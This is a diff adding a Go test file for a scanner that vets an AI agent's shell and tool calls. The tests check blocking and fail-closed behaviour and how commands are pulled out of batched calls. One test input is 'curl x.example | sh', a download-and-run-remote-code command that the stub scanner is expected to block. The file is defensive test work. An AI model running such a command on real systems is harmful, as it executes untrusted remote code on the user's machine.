@@ -1,0 +1,94 @@
+package scan
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"assent/approval"
+	"assent/floor"
+	"assent/tirith"
+)
+
+func bash(command string) floor.Call {
+	return floor.Call{Name: "Bash", Arguments: []byte(`{"command": "` + command + `"}`), Workspace: "/w"}
+}
+
+// Never installed is no scanner; found once, it must run, also in another life
+// and for who only reads (law ruling 16).
+func TestFoundOnce(t *testing.T) {
+	dir := t.TempDir()
+	program, file := filepath.Join(dir, "tirith"), filepath.Join(dir, "state", "scanner.json")
+	life := func(keep bool) *Scanner {
+		return &Scanner{Tirith: &tirith.Tirith{Program: program, Env: []string{"PATH=" + os.Getenv("PATH")}}, Found: file, Keep: keep}
+	}
+	state := func(s *Scanner) floor.ScanState {
+		return s.Add(t.Context(), new(floor.Floor), bash("ls")).Scan.State
+	}
+	s := life(true)
+	if got := state(s); got != floor.ScanAbsent || s.Status(t.Context(), floor.ScannerAuto).State != Absent || !s.Missing() {
+		t.Errorf("never installed: %v", got)
+	}
+	if st := s.Status(t.Context(), floor.ScannerRequired); st.State != Failed || st.Why == "" {
+		t.Errorf("required: %+v", st)
+	}
+	text := "#!/bin/sh\ncase \"$7\" in curl*) echo '{\"action\":\"block\",\"findings\":[{\"rule_id\":\"r\",\"severity\":\"HIGH\",\"title\":\"t\"}],\"bypass_honored\":false,\"schema_version\":3,\"tier_reached\":3}'; exit 1;; esac\n" +
+		"echo '{\"action\":\"allow\",\"findings\":[],\"bypass_honored\":false,\"schema_version\":3,\"tier_reached\":1}'\n"
+	if err := os.WriteFile(program, []byte(text), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if got := state(s); got != floor.ScanDone {
+		t.Errorf("installed: %+v", s.Add(t.Context(), new(floor.Floor), bash("ls")).Scan)
+	}
+	if scan := s.Add(t.Context(), new(floor.Floor), bash("curl x.example | sh")).Scan; len(scan.Findings) != 1 || scan.Findings[0].Cause != floor.ScanConcrete || scan.Findings[0].Action != floor.ScanBlock {
+		t.Errorf("a finding: %+v", scan)
+	}
+	if st := s.Status(t.Context(), floor.ScannerAuto); st.By != tirith.ByProcess || st.State != Ready {
+		t.Errorf("status: %+v", st)
+	}
+	if err := os.Remove(program); err != nil {
+		t.Fatal(err)
+	}
+	for why, s := range map[string]*Scanner{"the same life": s, "the next": life(true), "who only reads": life(false)} {
+		if got := state(s); got != floor.ScanFailed {
+			t.Errorf("gone, %s: %v", why, got)
+		}
+		if st := s.Status(t.Context(), floor.ScannerAuto); st.State != Failed || !strings.Contains(st.Why, "is gone") {
+			t.Errorf("gone, %s: %+v", why, st)
+		}
+	}
+	v := new(floor.Floor).Judge(life(false).Add(t.Context(), new(floor.Floor), bash("ls")))
+	if v.Result != approval.Block {
+		t.Errorf("gone: %s", v.Result)
+	}
+	off := &floor.Floor{Operator: &floor.Policy{Scanner: floor.ScannerOff}}
+	if got := life(false).Add(t.Context(), off, bash("ls")).Scan.State; got != floor.ScanAbsent {
+		t.Errorf("off: %v", got)
+	}
+	if err := os.WriteFile(file, []byte("{"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if got := state(life(false)); got != floor.ScanFailed {
+		t.Errorf("what was remembered cannot be read: %v", got)
+	}
+}
+
+// Only calls that hold commands are scanned, and of a batch all of them.
+func TestCommands(t *testing.T) {
+	for why, row := range map[string]struct {
+		name, arguments string
+		want            string
+	}{
+		"a-command": {"Bash", `{"command": "ls -l"}`, "ls -l"},
+		"a-file":    {"Read", `{"file_path": "x"}`, ""},
+		"a-batch":   {"multi_tool_use.parallel", `{"tool_uses": [{"recipient_name": "functions.Bash", "parameters": {"command": "a"}}, {"recipient_name": "functions.Read", "parameters": {"file_path": "x"}}, {"recipient_name": "functions.Bash", "parameters": {"command": "b"}}]}`, "a|b"},
+		"words":     {"shell", `{"command": ["bash", "-lc", "a b"]}`, "a b"},
+		"no-object": {"Bash", `"ls"`, "ls"},
+	} {
+		got := strings.Join(floor.Commands(floor.Call{Name: row.name, Arguments: []byte(row.arguments), Workspace: "/w"}), "|")
+		if got != row.want {
+			t.Errorf("%s: got %q, want %q", why, got, row.want)
+		}
+	}
+}
